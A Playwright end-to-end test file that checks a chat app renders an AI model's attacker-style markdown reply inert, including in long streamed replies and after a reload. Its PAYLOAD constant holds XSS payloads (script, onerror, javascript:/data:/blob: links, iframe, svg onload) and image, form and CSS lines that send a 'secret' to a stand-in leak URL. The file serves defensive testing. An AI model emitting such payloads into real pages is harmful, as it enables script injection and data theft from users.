"""Model text as an attacker would write it, rendered in the real app: nothing runs, nothing loads.

The assistant's markdown is rendered without raw HTML and sanitized: no script, no event handler, no
`javascript:`/`data:`/`blob:`/relative link (links only leave the app), no image (an image URL could carry
data out), and no request to anywhere the text names.
"""

from __future__ import annotations

from playwright.sync_api import Locator, expect

from scripts.fakes.fake_llm import FakeLLM
from scripts.fakes.replies import Reply
from tests.e2e.conftest import KEY, App
from tests.e2e.ui import REPLY_TIMEOUT_MS, send_for_reply, wait_ready

LEAK = "http://127.0.0.1:9/leak"
PAYLOAD = "\n\n".join(
    [
        "Marker **safe-text**.",
        "<script>window.__pwned = 'script'</script>",
        "<img src=x onerror=\"window.__pwned = 'img'\">",
        f"![chart]({LEAK}?d=secret)",
        "[click me](javascript:window.__pwned='link')",
        "[data link](data:text/html,<script>alert(1)</script>)",
        "[blob link](blob:http://127.0.0.1/0b6c6d52-1f2e-4a8e-9d7f-2d5b1c0e9a11)",
        "[relative link](/assets/x.svg) and [up](../x.html)",
        "<a href=\"javascript:window.__pwned='raw'\">raw link</a>",
        "<iframe src=\"javascript:window.__pwned='frame'\"></iframe>",
        "<svg onload=\"window.__pwned='svg'\"></svg>",
        f"<form action=\"{LEAK}\"><input name=x></form>",
        f"<style>body{{background:url({LEAK}?css)}}</style>",
    ]
)


def test_hostile_markdown_renders_inert(connected_app: App, fake: FakeLLM) -> None:
    page = connected_app.page
    fake.reset(api_key=KEY)
    wait_ready(page)
    fake.script([Reply.text(PAYLOAD)])
    reply = send_for_reply(page, "Show me something")
    expect(reply.locator("strong")).to_have_text("safe-text", timeout=REPLY_TIMEOUT_MS)
    wait_ready(page)
    _inert(connected_app, reply, 1)


def test_hostile_markdown_in_a_long_reply_stays_in_its_blocks(connected_app: App, fake: FakeLLM) -> None:
    """A reply too long to be rendered again as a whole at its end shows the blocks it streamed in, each
    frame's finished blocks sanitized together: each stays in its own block, and each is as inert."""
    page = connected_app.page
    fake.reset(api_key=KEY)
    wait_ready(page)
    filler = "Plain words fill this paragraph. " * 60
    text = "\n\n".join([PAYLOAD, filler] * 90)  # past the 200,000 characters rendered again whole
    fake.script([Reply.text(text, chunk_chars=8192)])
    reply = send_for_reply(page, "Show me something long")
    expect(reply.locator("strong")).to_have_count(90, timeout=REPLY_TIMEOUT_MS)
    wait_ready(page)
    blocks = reply.locator(".md-done > .md-block")
    assert blocks.count() > 10, blocks.count()
    assert reply.locator(".md-block .md-block").count() == 0  # no piece reached into another's block
    _inert(connected_app, reply, 90)
    # Drawn again from the store: in blocks too, each shown as its text, then drawn as markdown (stored-reply.ts).
    page.reload()
    wait_ready(page)
    stored = page.locator('[data-testid="message"][data-role="assistant"]').last
    expect(stored.locator(".md-waiting")).to_have_count(0, timeout=REPLY_TIMEOUT_MS)
    expect(stored.locator("strong")).to_have_count(90)
    assert stored.locator(".md-done > .md-block").count() > 10
    assert stored.locator(".md-block .md-block").count() == 0
    _inert(connected_app, stored, 90)


def _inert(connected_app: App, reply: Locator, copies: int) -> None:
    """Nothing in ``reply`` (``copies`` of the payload) runs, loads or links into the app."""
    page = connected_app.page
    for selector in ["script", "img", "iframe", "svg", "form", "input", "style", "[onerror]", "[onload]"]:
        expect(reply.locator(selector)).to_have_count(0)
    hrefs = reply.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href') || '')")
    assert not [h for h in hrefs if h.lower().startswith(("javascript:", "data:"))], hrefs
    # Links only leave the app: a blob: or relative link would open a document of the app's origin.
    assert all(h == "" or h.startswith(("http://", "https://", "mailto:")) for h in hrefs), hrefs
    assert reply.get_by_text("blob link").count() == copies
    assert reply.get_by_text("relative link").count() == copies
    reply.get_by_text("click me").last.click()
    assert page.evaluate("() => window.__pwned ?? null") is None
    assert not [r for r in connected_app.traffic.requests if LEAK in r], connected_app.traffic.requests
